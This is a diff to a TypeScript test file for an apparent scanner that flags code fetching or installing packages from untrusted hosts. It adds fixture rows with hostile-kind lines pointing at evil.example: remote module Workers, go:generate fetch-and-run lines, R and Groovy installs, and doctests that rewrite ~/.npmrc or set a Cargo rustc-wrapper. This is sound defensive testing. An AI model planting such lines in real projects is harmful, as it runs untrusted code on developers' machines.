@@ -457,7 +457,8 @@ const GO_FLAG_SPELLINGS: FindingRow[] = [
 // Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
 // Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
 // Worker from a URL (Deno and browsers fetch and run it; closed with U in session 48), `//go:generate` lines that fetch
-// and run (`go generate ./...`).
+// and run (`go generate ./...`). Closed (session 49): source-dependencies.ts reads each language's own forms, and
+// process-calls.ts spells a `//go:generate` line as the command it runs.
 const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
   ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
@@ -471,10 +472,14 @@ const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/check.R', 'pak::pak("evil/x")'],
   ['src/check.R', 'BiocManager::install("evil")'],
   ['src/check.py', "import micropip\nawait micropip.install('evil')"],
-  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });', 'closed'],
-  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });', 'closed'],
+  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
+  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
   ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
   ['src/gen.go', '//go:generate npx evil'],
+  ['src/check.jl', 'using Pkg\nPkg.add("Evil")'],
+  ['src/check.R', 'install.packages("evil", repos = "https://evil.example")'],
+  ['src/main.scala', '//> using jvm graalvm:21'],
+  ['src/Main.groovy', "@Grapes([@Grab('com.evil:evil:1.0')])"],
 ];
 
 // H (medium/high): the managers' environment set in spellings MANAGER_SETTING does not read: Python's
@@ -652,7 +657,8 @@ const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
 // O (medium): documentation the project runs as tests (Rust's `#![doc = include_str!("../README.md")]`, pytest's
 // `--doctest-glob='*.md'`, Sybil): managerSetting skips documentation, so a doctest writing `~/.npmrc`, the repository's
 // `.cargo/config.toml` (every later cargo call in the job: a rustc wrapper, a replaced registry) or a manager's
-// environment passes, where the same line in a .py or .rs file is refused.
+// environment passes, where the same line in a .py or .rs file is refused. Closed (session 49): managerSetting reads a
+// documentation file's doctest prompts and Rust blocks (doc-tests.ts) as the code they are.
 const DOCTESTS_CONFIGURE: FindingRow[] = [
   ['README.md', "```python\n>>> import os\n>>> open(os.path.expanduser('~/.npmrc'), 'w').write('registry=https://evil.example/')\n```"],
   ['README.md', '```rust\nstd::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();\n```'],
@@ -773,10 +779,12 @@ const SPELLINGS_NAMED_CLOSED: FindingRow[] = [
   ['src/x.py', "from sh import (\n    npm,\n)\nnpm('install', 'evil-pkg')"],
   ['src/x.py', "import os, sh as s\ns.npm('install', 'evil-pkg')"],
 ];
-// Open: the initializer over several lines (its properties are read on one line only; read across lines, an allowed
-// `Arguments = "test"` would look unclosed and be refused).
+// Closed (session 49): the initializer over several lines, read by process-calls.ts as its constructor given its
+// FileName and Arguments in any order, the two taken out of its other lines (left in, `FileName = "npm",` reads as
+// npm given no verb, and an allowed `Arguments = "test"` would be refused).
 const SPELLINGS_NAMED_CLOSED_OPEN: FindingRow[] = [
   ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil-pkg",\n};'],
+  ['src/X.cs', 'var psi = new ProcessStartInfo()\n{\n    Arguments = "install evil-pkg",\n    UseShellExecute = false,\n    FileName = "npm",\n};'],
 ];
 
 describeFindings('attack-48', [
@@ -803,7 +811,7 @@ describeFindings('attack-48', [
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
   ['E go flag spellings', closedRows(GO_FLAG_SPELLINGS)],
-  ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
+  ['F dependencies in source', closedRows(DEPENDENCIES_IN_SOURCE)],
   ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
   ['I loader environment', closedRows(LOADER_ENVIRONMENT)],
   ['J git configuration', closedRows(GIT_CONFIGURATION)],
@@ -813,9 +821,9 @@ describeFindings('attack-48', [
   ['N windows', closedRows(WINDOWS)],
   ['review H2 decoy call opening', closedRows(DECOY_CALL_OPENING)],
   ['review M4 spellings named closed', closedRows(SPELLINGS_NAMED_CLOSED)],
-  ['review M4 spellings named closed, open', SPELLINGS_NAMED_CLOSED_OPEN],
+  ['review M4 spellings named closed, over lines', closedRows(SPELLINGS_NAMED_CLOSED_OPEN)],
   ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
-  ['O doctests configure', DOCTESTS_CONFIGURE],
+  ['O doctests configure', closedRows(DOCTESTS_CONFIGURE)],
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
   ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
 ]);
@@ -1071,6 +1079,23 @@ describeAccepted('attack-48 T: decoded data stays accepted', [
   ['src/x.py', "import subprocess\nsubprocess.run(['xxd', '-r', '-p', 'in.hex', 'out.bin'], check=True)"],
 ]);
 
+/** Dependencies in source, initializers over lines, doctests (F, M4 and O's readings, session 49): what stays accepted. */
+describeAccepted('attack-48 F, M4, O: ordinary source and documentation stay accepted', [
+  ['src/gen.go', '//go:generate stringer -type=Pill'],
+  ['src/gen.go', '//go:generate go run ./cmd/gen'],
+  ['src/main.scala', '//> using scala 3.3.1'],
+  ['src/main.scala', '//> using options -deprecation'],
+  ['src/check.R', 'library(dplyr)\nif (!requireNamespace("x")) stop("install x first")'],
+  ['src/check.rb', "gem_version = Gem::Version.new('1.0')"],
+  ['src/check.jl', 'using Pkg\nPkg.status()'],
+  ['src/tool.py', '# Usage: uv run tool.py\nimport sys'],
+  ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "test",\n    UseShellExecute = false,\n};'],
+  ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "build -c Release",\n};'],
+  ['README.md', "To use a mirror, set `PIP_INDEX_URL`:\n```bash\nexport PIP_INDEX_URL=https://mirror.example/simple\n```"],
+  ['README.md', "Write `~/.npmrc` with `registry=https://r.example/`.\n```toml\n[build]\nrustc-wrapper = \"sccache\"\n```"],
+  ['README.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
+]);
+
 /** Calls read further (R's readings, session 48): commands named apart from their calls, text after a closed call. */
 describeAccepted('attack-48 R: calls read further stay accepted', [
   ['src/x.py', "import subprocess\ncmd = ['npm', 'test']\nsubprocess.run(cmd, check=True)"],
@@ -1120,6 +1145,8 @@ describe('attack-48 T, S, U, R: session 48 readings in linear time', () => {
     ['src/x.py', 'calls never closed, across lines', 'subprocess.run(\n(['],
     ['src/x.py', 'names given literals, given to calls', "c = 'a'\nrun(c, c, [c, "],
     ['src/check.py', 'escapes printed, substitutions never closed', "system('printf a eval $(printf \\x6 sh <(rev "],
+    ['src/X.cs', 'initializers opened over lines, never given a program', 'new ProcessStartInfo new ProcessStartInfo() { Arguments = "a"\n'],
+    ['src/check.R', 'installers named, never called', 'pak::pak remotes:::install_x BiocManager :: install '],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
 });
 
